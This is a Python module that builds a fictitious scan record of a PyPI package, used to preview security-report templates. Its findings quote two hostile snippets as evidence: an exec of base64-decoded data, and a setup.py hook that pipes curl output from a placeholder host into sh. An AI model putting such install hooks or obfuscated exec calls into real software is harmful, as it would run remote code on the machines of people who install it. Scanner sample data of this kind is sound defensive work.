"""A made-up scan with findings in every category, for the template preview.

The preview renders this record through the same document builder, sanitiser and
renderer as a real report, so what a template owner sees is what a report will look
like. It is plain data: nothing is read from or written to the database.
"""

from __future__ import annotations

import hashlib
from typing import Any

SAMPLE_SCAN_ID = "00000000-0000-4000-8000-000000000001"
PREVIOUS_SCAN_ID = "00000000-0000-4000-8000-000000000002"


def _fp(*parts: str) -> str:
    return hashlib.sha256("\x00".join(parts).encode()).hexdigest()


def _finding(n: int, check_id: str, category: str, severity: str, title: str, *, status: str = "failed",
             detail: str = "", file_path: str = "", line: int | None = None,
             evidence: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"id": f"00000000-0000-4000-9000-{n:012d}", "check_id": check_id, "title": title, "category": category,
            "severity": severity, "status": status, "detail": detail, "file_path": file_path, "line": line,
            "evidence": evidence or {}, "fingerprint": _fp(check_id, file_path, str(n))}


def sample_record() -> dict[str, Any]:
    findings = [
        _finding(1, "VULN-PKG-001", "vulnerability", "critical", "sample-utils 1.2.0: GHSA-xxxx-sample-0001 Remote "
                 "code execution in the template loader",
                 detail="sample-utils 1.2.0 is affected by GHSA-xxxx-sample-0001 (CVE-2026-0001). Affected: >= 1.0, "
                        "< 1.2.3. Upgrade sample-utils to 1.2.3 or later.",
                 evidence={"advisory": "GHSA-xxxx-sample-0001", "aliases": ["CVE-2026-0001"],
                           "package": "sample-utils", "version": "1.2.0", "cvss_score": 9.8,
                           "cvss_vector": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
                           "affected": ">= 1.0, < 1.2.3", "fixed": ["1.2.3"], "upgrade_to": "1.2.3"}),
        _finding(2, "VULN-DEP-001", "vulnerability", "high", "yaml-lite 0.9.1: GHSA-xxxx-sample-0002 Unsafe load",
                 file_path="sample_utils-1.2.0.dist-info/METADATA",
                 evidence={"advisory": "GHSA-xxxx-sample-0002", "aliases": ["CVE-2026-0002"], "package": "yaml-lite",
                           "version": "0.9.1", "cvss_score": 7.5, "affected": "< 1.0", "fixed": ["1.0.0"],
                           "upgrade_to": "1.0.0"}),
        _finding(3, "MAL-EXEC-001", "malicious_code", "critical", "Executes decoded or obfuscated code",
                 detail="exec() receives base64-decoded data.", file_path="sample_utils/__init__.py", line=12,
                 evidence={"snippet": "exec(base64.b64decode(PAYLOAD))", "decoding": ["base64"]}),
        _finding(4, "PKG-HOOK-002", "install_hooks", "critical", "Downloads and executes code at install time",
                 file_path="setup.py", line=8,
                 evidence={"script": "setup.py", "snippet": "os.system('curl https://example.invalid/x | sh')",
                           "hook": "setup.py"}),
        _finding(5, "SEC-CLOUD-001", "secrets", "high", "Cloud provider credential",
                 file_path="sample_utils/settings.py", line=3,
                 evidence={"file": "sample_utils/settings.py", "line": 3, "kind": "AWS access key id",
                           "masked": "AKIA… (20 characters)"}),
        _finding(6, "LIC-UNKNOWN-001", "license", "medium", "License not recognised",
                 detail="The declared license 'Custom' is not an SPDX identifier.",
                 evidence={"declared": "Custom"}),
        _finding(7, "TYPO-NAME-001", "typosquatting", "high", "Name is one typo away from a popular package",
                 evidence={"name": "sample-utils", "imitates": "simple-utils", "how": "one substitution"}),
        _finding(8, "PKG-META-005", "metadata", "low", "Descriptive metadata fields are empty", status="warning",
                 detail="The homepage is empty."),
        _finding(9, "PKG-META-001", "metadata", "high", "Package name differs from the name submitted",
                 status="passed"),
        _finding(10, "LIC-DECLARED-001", "license", "info", "Declared license", status="passed",
                 evidence={"spdx": "LicenseRef-Custom"}),
    ]
    scores = [("vulnerability", 40, 16), ("malicious_code", 55, 120), ("install_hooks", 60, 60), ("secrets", 80, 39),
              ("license", 70, 7), ("typosquatting", 70, 26), ("metadata", 88, 44), ("integrity", 100, 30)]
    return {
        "id": SAMPLE_SCAN_ID, "target": "sample_utils-1.2.0-py3-none-any.whl", "ecosystem": "pypi",
        "name": "sample-utils", "version": "1.2.0", "status": "completed", "score": 38, "grade": "F",
        "verdict": "block", "created_at": "2026-01-15T09:30:00+00:00", "finished_at": "2026-01-15T09:30:04+00:00",
        "sha256": _fp("sample"), "size": 48213, "filename": "sample_utils-1.2.0-py3-none-any.whl",
        "submitted_by": "developer@example.test", "error_message": "",
        "metadata": {"summary": "Utilities for the preview", "license": "Custom", "dependency_count": 3},
        "category_scores": [{"category": c, "score": s, "weight": w, "counts": {}} for c, s, w in scores],
        "findings": findings,
        "extra": {"policies": {
            "verdict": "block", "evaluated_at": "2026-01-15T09:30:04+00:00", "policies": [{
                "name": "Default policy", "revision": 1, "mode": "enforce", "verdict": "block",
                "reasons": [
                    {"name": "Malicious code", "action": "block", "finding_ids": [findings[2]["id"]], "count": 1},
                    {"name": "Critical vulnerabilities", "action": "block", "finding_ids": [findings[0]["id"]],
                     "count": 1},
                    {"name": "Secrets", "action": "warn", "finding_ids": [findings[4]["id"]], "count": 1}],
                "waived": [{"finding_id": findings[7]["id"], "waiver_id": "00000000-0000-4000-a000-000000000001",
                            "check_id": "PKG-META-005", "rules": []}]}]}},
        "previous": {"id": PREVIOUS_SCAN_ID, "version": "1.1.0", "finished_at": "2026-01-02T11:00:00+00:00",
                     "score": 72, "grade": "C", "verdict": "warn", "same_artifact": False,
                     "problems": [{"fingerprint": findings[5]["fingerprint"], "check_id": "LIC-UNKNOWN-001",
                                   "title": "License not recognised", "severity": "medium"},
                                  {"fingerprint": _fp("old"), "check_id": "SEC-URL-001",
                                   "title": "Credentials in a URL", "severity": "medium"}]},
    }
